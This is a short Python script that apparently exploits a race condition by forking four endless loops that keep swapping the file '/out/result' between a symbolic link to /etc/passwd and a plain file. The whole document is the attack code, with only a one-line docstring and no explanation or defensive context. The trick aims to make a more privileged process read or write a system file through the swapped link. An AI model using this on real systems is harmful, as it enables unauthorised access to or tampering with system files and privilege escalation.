"""Swap the result for a link, all the time"""

import os
import time

for number in range(4):
    if os.fork() == 0:
        while True:
            try:
                os.symlink("/etc/passwd", f"/out/{number}")
                os.rename(f"/out/{number}", "/out/result")
                with open(f"/out/{number}", "w") as file:
                    file.write("plain")
                os.rename(f"/out/{number}", "/out/result")
            except OSError:
                continue
time.sleep(0.2)
